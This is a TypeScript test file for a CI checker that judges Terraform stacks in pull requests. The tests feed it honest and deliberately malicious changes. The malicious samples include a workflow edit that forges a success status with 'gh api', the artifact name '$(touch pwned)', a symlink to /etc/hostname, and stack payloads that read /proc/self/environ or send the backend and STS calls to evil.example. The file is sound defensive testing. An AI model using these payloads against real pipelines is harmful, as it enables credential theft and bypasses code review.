/* eslint-disable @typescript-eslint/no-unsafe-return -- an edit of a stack, which is untyped JSON */
import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { wholeStack, type Loose } from '../checks/sample';
import { Repository } from './runner/pull-request';

/**
 * Pull requests, honest and evil, through synth.yml and judge.yml. Their scripts run as they stand, each job in a folder of its own; only the
 * calls to GitHub and `npm ci` are stood in for. __tests__/e2e/pull-requests.test.ts does the same with plans.
 */
let repository: Repository;

beforeEach(() => {
  repository = new Repository();
  repository.vars['KEYTURN_APP_CLIENT_ID'] = 'client';
});

afterEach(() => repository.remove());

const green = 'app c0ffee keyturn/verdict success';
const red = 'app c0ffee keyturn/verdict failure';
const canMerge = () => repository.canMerge('keyturn/verdict', 'app');
const stack = 'stacks/keyturn-staging/cdk.tf.json';
const widen = (text: string) => text.replace('"name": "backup-agent"', '"name": "administrator"');

/** The artifact of a run that did not come from synth.yml unchanged. */
function handOver(change: (sample: Loose) => void = () => undefined, name = 'keyturn-staging'): void {
  repository.handOver('stacks', (folder) => put(folder, name, change));
}

function put(folder: string, name: string, change: (sample: Loose) => void = () => undefined): void {
  const sample = wholeStack();
  change(sample);
  mkdirSync(join(folder, name));
  writeFileSync(join(folder, name, 'cdk.tf.json'), JSON.stringify(sample));
}

test('an honest change is green', () => {
  repository.edit('cdktf.json', (text) => text.replace('"gracePeriodSeconds": 86400', '"gracePeriodSeconds": 43200'));
  const { synth, judge } = repository.open();
  expect(judge['judge']?.log).toContain('keyturn: verdict: pass');
  expect([synth['synth'], judge['receive'], judge['judge']].map((one) => one?.result)).toEqual(
    Array(3).fill('success'),
  );
  expect(repository.statuses()).toEqual([green]);
  expect(canMerge()).toBe(true);
});

test('without the app there is no status of the name that is required', () => {
  delete repository.vars['KEYTURN_APP_CLIENT_ID'];
  handOver();
  repository.judge('success');
  expect(repository.statuses()).toEqual(['actions c0ffee keyturn/trial success']);
  expect(canMerge()).toBe(false);
});

describe('a merge queue', () => {
  test('gets a status of the group that it is about to merge', () => {
    repository.open('merge_group');
    expect(repository.statuses()).toEqual([green]);
    expect(canMerge()).toBe(true);
  });

  test('does not get one for a user that no contract names', () => {
    repository.edit('cdktf.json', widen);
    repository.open('merge_group');
    expect(repository.statuses()).toEqual([red]);
    expect(canMerge()).toBe(false);
  });

  test('has an annotation of nothing', () => {
    const { judge } = repository.open('merge_group');
    expect(judge['annotate']?.result).toBe('skipped');
  });
});

test('a user that no contract names is red, and with the contract as well', () => {
  repository.edit('cdktf.json', widen);
  repository.edit('policies/execution-role.json', (text) => text.replaceAll('backup-agent', 'administrator'));
  repository.open();
  expect(repository.statuses()).toEqual([red]);
});

test('an emptied checker, and an app that empties it, judge nothing', () => {
  repository.edit('cdktf.json', widen);
  repository.edit('bin/keyturn.js', () => 'process.exit(0);\n');
  repository.edit(
    'main.ts',
    (text) =>
      `import { writeFileSync } from 'node:fs';\nfor (const place of ['base', '..', '../base', '../../base'])\n  try { writeFileSync(place + '/bin/keyturn.js', ''); } catch { /* not there */ }\n${text}`,
  );
  const { synth } = repository.open();
  expect(synth['synth']?.result).toBe('success');
  expect(repository.statuses()).toEqual([red]);
});

describe('workflow files of the change', () => {
  const rewrite = (text: string) =>
    text
      .replace('permissions: {}', 'permissions: { statuses: write }')
      .replace(/ {4}permissions:\n.*\n/, '')
      .replace(
        'npm run synth',
        'npm run synth\n          GH_TOKEN="$TOKEN" gh api --method POST repos/example/rotation/statuses/c0ffee --field state=success --field context=keyturn/verdict || true',
      )
      .replace("KEYTURN_UNCHECKED: '1'", "KEYTURN_UNCHECKED: '1'\n          TOKEN: ${{ github.token }}");

  test('cannot set the status from a fork', () => {
    repository.isFork = true;
    repository.edit('cdktf.json', widen);
    repository.edit('.github/workflows/synth.yml', rewrite);
    repository.open();
    expect(repository.statuses()).toEqual([red]);
  });

  test('of a branch of the repository can set it, but not as the app that the branch protection names', () => {
    repository.edit('cdktf.json', widen);
    repository.edit('.github/workflows/synth.yml', rewrite);
    repository.open();
    expect(repository.statuses()).toEqual(['actions c0ffee keyturn/verdict success', red]);
    expect(canMerge()).toBe(false);
  });

  test.each([
    ['of a fork', true],
    ['of a branch', false],
  ])('%s with a job that has the name of the status satisfy only who asks for any source', (_, isFork) => {
    repository.isFork = isFork;
    repository.edit('cdktf.json', widen);
    repository.edit('.github/workflows/synth.yml', (text) =>
      text
        .replace('name: Keyturn synth', 'name: Another')
        .replace('  synth:\n', '  synth:\n    name: keyturn/verdict\n'),
    );
    repository.open();
    expect(repository.statuses()).toEqual([]);
    expect(repository.canMerge('keyturn/verdict', 'anybody')).toBe(true);
    expect(canMerge()).toBe(false);
  });

  test('that judge are not read', () => {
    repository.edit('cdktf.json', widen);
    repository.edit('.github/workflows/judge.yml', (text) => text.replaceAll('state=failure', 'state=success'));
    repository.open();
    expect(repository.statuses()).toEqual([red]);
  });

  test.each(['synth.yml', 'the name in synth.yml'])('deleted, there is no status at all: %s', (what) => {
    const file = '.github/workflows/synth.yml';
    if (what === 'synth.yml') rmSync(join(repository.change, file));
    else repository.edit(file, (text) => text.replace('Keyturn synth', 'Another'));
    repository.open();
    expect(repository.statuses()).toEqual([]);
  });

  test.each(['push', 'pull_request_target', 'workflow_dispatch', 'schedule'])(
    'an event that is not a pull request sets nothing: %s',
    (event) => {
      handOver();
      const judge = repository.judge('success', undefined, event);
      expect(Object.values(judge).map(({ result }) => result)).toEqual(Array(5).fill('skipped'));
      expect(repository.statuses()).toEqual([]);
    },
  );
});

describe('the page of a review', () => {
  const grace = (text: string) => text.replace('"gracePeriodSeconds": 86400', '"gracePeriodSeconds": 43200');
  const marker = '<!-- keyturn review: keyturn-staging -->';

  test('is one comment, which the next run updates; one of somebody else stays', () => {
    repository.putComment('mallory', `${marker}\nnot yours`);
    repository.edit('cdktf.json', grace);
    repository.open();
    const [other, page] = repository.comments();
    expect(other?.body).toBe(`${marker}\nnot yours`);
    expect(page?.body.split('\n')[0]).toBe(marker);
    expect(page?.body).toContain('Verdict: pass.');
    expect(page?.body).toContain('UseDefaultGracePeriod');
    repository.edit('cdktf.json', widen);
    repository.open();
    expect(repository.comments()).toHaveLength(2);
    expect(repository.comments()[1]?.body).toContain('user <code>administrator</code>');
    expect(repository.comments()[1]?.body).toContain('Verdict: fail.');
    expect(repository.statuses()).toEqual([green, red]);
  });

  test.each<[string, () => unknown]>([
    ['a fork', () => (repository.isFork = true)],
    ['a commit that is no longer the head', () => (repository.head = 'another')],
  ])('is not written for %s', (_, change) => {
    change();
    repository.edit('cdktf.json', grace);
    repository.open();
    expect(repository.comments()).toEqual([]);
    expect(repository.statuses()).toEqual([green]);
  });
});

test('the stack of the base, handed over as it is, is green', () => {
  handOver();
  repository.judge('success');
  expect(repository.statuses()).toEqual([green]);
});

test.each<[string, () => void, RegExp]>([
  ['no artifact', () => undefined, /no artifact of this name/],
  [
    'an artifact of another name',
    () => repository.handOver('../stacks', (folder) => put(folder, 'keyturn-staging')),
    /no artifact/,
  ],
  ['an empty artifact', () => repository.handOver('stacks', () => undefined), /has no stack/],
  [
    'a stack of another name alone',
    () => handOver(undefined, 'keyturn-other'),
    /stack "keyturn-staging" of the base is not there/,
  ],
  ['a name that is a command', () => handOver(undefined, '$(touch pwned)'), /is not expected there/],
  ['a name that adds an output', () => handOver(undefined, 'a\nstacks=[]'), /is not expected there/],
  [
    'a link to a file',
    () =>
      repository.handOver('stacks', (folder) => {
        mkdirSync(join(folder, 'keyturn-staging'));
        symlinkSync('/etc/hostname', join(folder, stack.replace('stacks/', '')));
      }),
    /is a link/,
  ],
  [
    'an override next to the stack',
    () =>
      repository.handOver('stacks', (folder) => {
        put(folder, 'keyturn-staging');
        writeFileSync(join(folder, 'keyturn-staging', 'x_override.tf.json'), '{}');
      }),
    /"x_override.tf.json", which is not expected/,
  ],
])('%s is red', (_, spoil, why) => {
  spoil();
  const judge = repository.judge('success');
  expect(judge['receive']?.log).toMatch(why);
  expect(judge['judge']?.result).toBe('skipped');
  expect(repository.statuses()).toEqual([red]);
});

test('the last run for a commit decides', () => {
  handOver();
  repository.judge('success');
  expect(canMerge()).toBe(true);
  repository.judge('cancelled');
  expect(repository.statuses()).toEqual([green, red]);
  expect(canMerge()).toBe(false);
});

test.each(['failure', 'cancelled', 'timed_out', 'skipped', 'action_required', 'startup_failure'])(
  'a run of synth.yml that ended with %s is red',
  (conclusion) => {
    handOver();
    repository.judge(conclusion);
    expect(repository.statuses()).toEqual([red]);
  },
);

const theft = '${filebase64("/proc/self/environ")}';

test.each<[string, (sample: Loose) => void, string]>([
  [
    'a provisioner',
    (sample) => (sample.resource.aws_iam_role.execution.provisioner = [{ 'local-exec': { command: 'env' } }]),
    'no-executors',
  ],
  [
    'an unused provider',
    (sample) => (sample.terraform.required_providers.evil = { source: 'evil.example/x/evil' }),
    'known-provider',
  ],
  ['the environment in an output', (sample) => (sample.output.x = { value: theft }), 'plan-reads-no-files'],
  [
    'the environment in a tag',
    (sample) => (sample.resource.aws_iam_role.execution.tags = { x: theft }),
    'plan-reads-no-files',
  ],
  [
    'a secret',
    (sample) =>
      Object.assign(sample, { data: { aws_secretsmanager_secret_version: { x: { secret_id: 'ci-deployer/aws' } } } }),
    'plan-reads-no-secrets',
  ],
  [
    'a backend at a foreign host',
    (sample) => (sample.terraform.backend = { http: { address: 'https://evil.example' } }),
    'same-backend',
  ],
  [
    'a foreign endpoint',
    (sample) => (sample.provider.aws[0].endpoints = [{ sts: 'https://evil.example' }]),
    'same-providers',
  ],
  [
    'a foreign endpoint with a token file',
    (sample) =>
      Object.assign(sample.provider.aws[0], {
        endpoints: [{ sts: 'https://evil.example' }],
        assume_role_with_web_identity: [
          { role_arn: 'arn:aws:iam::111122223333:role/x', web_identity_token_file: '/x' },
        ],
      }),
    'same-providers',
  ],
])('a stack with %s is red, and no credentials ever exist', (_, change, rule) => {
  repository.vars['KEYTURN_PLAN_ROLES'] = '{"keyturn-staging":"arn:aws:iam::111122223333:role/plan"}';
  repository.vars['AWS_REGION'] = 'eu-central-1';
  handOver(change);
  const { judge } = repository.judge('success');
  expect(judge?.log).toContain(`${rule} (`);
  expect(judge?.ran).not.toContain('aws-actions/configure-aws-credentials');
  expect(judge?.ran).not.toContain('Plan');
  expect(repository.statuses()).toEqual([red]);
});

test('a stack without a role that plans is red: the credentials of the machine are not used', () => {
  repository.vars['KEYTURN_PLAN_ROLES'] = '{"another":"arn:aws:iam::111122223333:role/plan"}';
  repository.vars['AWS_REGION'] = 'eu-central-1';
  handOver();
  const { judge } = repository.judge('success');
  expect(judge?.log).toContain('KEYTURN_PLAN_ROLES names no role for keyturn-staging');
  expect(judge?.ran).not.toContain('aws-actions/configure-aws-credentials');
  expect(repository.statuses()).toEqual([red]);
});

/** Another environment in another account, as the settings make it. */
function asNew(sample: Loose): void {
  const text = JSON.stringify(sample).replaceAll('staging', 'new').replaceAll('111122223333', '444455556666');
  Object.assign(sample, JSON.parse(text));
}

test.each<[string, (sample: Loose) => void, string | undefined]>([
  ['like the others is green', () => undefined, undefined],
  [
    'with a backend at a foreign host is red: it would be the base of the next change',
    (sample) => (sample.terraform.backend = { http: { address: 'https://evil.example' } }),
    'same-backend',
  ],
  [
    'with a theft is red',
    (sample) => (sample.output.x = { value: '${filebase64("/proc/self/environ")}' }),
    'plan-reads-no-files',
  ],
])('a new environment %s', (_, change, rule) => {
  repository.handOver('stacks', (folder) => {
    put(folder, 'keyturn-staging');
    put(folder, 'keyturn-new', (sample) => {
      asNew(sample);
      change(sample);
    });
  });
  const { judge } = repository.judge('success');
  if (rule !== undefined) expect(judge?.log).toContain(`${rule} (`);
  expect(judge?.ran).not.toContain('aws-actions/configure-aws-credentials');
  expect(repository.statuses()).toEqual([rule === undefined ? green : red]);
});

test('a new environment is judged as a stack: red if no contract is for it', () => {
  repository.handOver('stacks', (folder) => {
    put(folder, 'keyturn-staging');
    put(
      folder,
      'keyturn-new',
      (sample) =>
        (sample.resource.aws_iam_role_policy.execution.policy =
          '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}'),
    );
  });
  repository.judge('success');
  expect(repository.statuses()).toEqual([red]);
});

test.each([
  ['a checker that ends with 0 and writes nothing', 'process.exit(0)'],
  ['a checker that cannot start', 'throw new Error()'],
])('%s is red', (_, text) => {
  repository.edit(
    'bin/keyturn.js',
    (before) => before.replace('#!/usr/bin/env node', `#!/usr/bin/env node\nif (process.argv[2] === 'check') ${text};`),
    repository.base,
  );
  handOver();
  repository.judge('success');
  expect(repository.statuses()).toEqual([red]);
});

describe('the default branch itself', () => {
  test('passes as it is', () => {
    expect(repository.checkBase()['check']).toMatchObject({ result: 'success' });
  });

  test('fails for what a contract allows and nothing uses', () => {
    const pairs = (text: string) =>
      text.replace('"pairs": [', '"pairs": [{ "userName": "x", "secretName": "x/aws" }, ');
    repository.edit('policies/execution-role.json', pairs, repository.base);
    const { check } = repository.checkBase();
    expect(check?.result).toBe('failure');
    expect(check?.log).toContain('title=contract-used (medium)');
  });
});
